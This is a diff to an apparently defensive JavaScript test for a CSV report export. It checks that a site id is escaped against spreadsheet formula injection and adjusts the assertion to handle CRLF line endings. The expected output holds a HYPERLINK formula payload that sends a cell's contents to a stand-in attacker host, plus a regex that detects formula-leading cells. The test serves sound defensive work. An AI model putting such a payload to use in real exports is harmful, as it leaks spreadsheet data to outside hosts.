@@ -51,7 +51,8 @@ describe('a site id in a CSV report', () => {
     // Assert
     expect(answer.status).toBe(200);
     expect(answer.text).toContain(`"'=HYPERLINK(""http://evil.test/?d=""&A1,""Open"")"`);
-    expect(answer.text).not.toMatch(/(^|,)"?[=+@\t\r]/m);
+    // Records end in CRLF (RFC 4180); within them, no cell starts as a formula would.
+    expect(answer.text.split('\r\n').join('\n')).not.toMatch(/(^|,)"?[=+@\t\r]/m);
   });
 
   it('stays the label as given in the JSON report, where it is data', async () => {
